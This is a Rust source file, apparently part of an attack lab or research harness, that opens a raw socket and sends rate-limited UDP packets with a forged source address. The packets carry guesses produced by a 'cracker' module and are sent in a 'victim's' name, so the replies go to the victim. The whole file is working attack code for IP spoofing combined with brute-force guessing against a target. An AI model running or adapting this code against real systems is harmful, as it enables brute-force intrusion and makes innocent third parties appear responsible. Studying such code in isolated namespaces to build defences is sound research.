//! Guesses in somebody else's name: raw packets with a source address that isn't the attacker's.
//!
//! The answers go to the one whose address it is. Nothing between the attackers and the host checks
//! whose addresses they send from, as is so with too many providers.

use std::{
    net::{SocketAddr, SocketAddrV4},
    os::fd::{AsRawFd, FromRawFd, OwnedFd},
    sync::atomic::{AtomicBool, Ordering},
    time::{Duration, Instant},
};

use anyhow::{Context, Result, ensure};
use etherparse::PacketBuilder;

use super::cracker::{self, Challenge};
use crate::namespace::Namespace;

/// In whose name, to whom, and how much.
#[derive(Clone, Debug)]
pub struct Plan {
    pub victim: SocketAddrV4,
    pub target: SocketAddrV4,
    /// A nonce that the attacker has; otherwise one that nobody gave out.
    pub challenge: Option<Challenge>,
    pub per_second: u32,
    pub limit: Duration,
}

/// Sends forged guesses from inside `namespace` for as long as it is `wanted`, at most to the plan's
/// limit; returns how many.
pub fn forge_from(namespace: &Namespace, plan: &Plan, wanted: &AtomicBool) -> Result<u32> {
    namespace.run(|| forge(plan, wanted))
}

fn forge(plan: &Plan, wanted: &AtomicBool) -> Result<u32> {
    let guesses = cracker::Plan::new((*plan.victim.ip()).into(), plan.target.into());
    let challenge = plan.challenge.clone().unwrap_or_else(|| Challenge::forged(&guesses));
    let socket = raw_socket()?;
    let start = Instant::now();
    let mut sent = 0;
    while start.elapsed() < plan.limit && wanted.load(Ordering::Relaxed) {
        let local = SocketAddr::V4(plan.victim);
        let message = cracker::request(&guesses, local, Some((&challenge, sent)));
        send(&socket, plan, &message)?;
        sent += 1;
        let due = start + Duration::from_secs(1) * sent / plan.per_second;
        std::thread::sleep(due.saturating_duration_since(Instant::now()));
    }
    Ok(sent)
}

fn raw_socket() -> Result<OwnedFd> {
    // SAFETY: a plain system call; the descriptor is checked and owned right after.
    let fd = unsafe {
        libc::socket(libc::AF_INET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, libc::IPPROTO_RAW)
    };
    ensure!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
    // SAFETY: the descriptor is new and nobody else's.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn send(socket: &OwnedFd, plan: &Plan, message: &[u8]) -> Result<()> {
    let (victim, target) = (plan.victim, plan.target);
    let builder = PacketBuilder::ipv4(victim.ip().octets(), target.ip().octets(), 64)
        .udp(victim.port(), target.port());
    let mut packet = Vec::with_capacity(builder.size(message.len()));
    builder.write(&mut packet, message).context("write a packet")?;
    // SAFETY: all-zero is a valid sockaddr_in; the kernel reads the rest from the packet.
    let mut to: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    to.sin_family = libc::AF_INET as u16;
    to.sin_addr.s_addr = u32::from_ne_bytes(target.ip().octets());
    // SAFETY: packet and address are ours, and as long as we say.
    let sent = unsafe {
        libc::sendto(
            socket.as_raw_fd(),
            packet.as_ptr().cast(),
            packet.len(),
            0,
            (&raw const to).cast(),
            size_of::<libc::sockaddr_in>() as u32,
        )
    };
    ensure!(sent >= 0, "send a forged packet: {}", std::io::Error::last_os_error());
    Ok(())
}
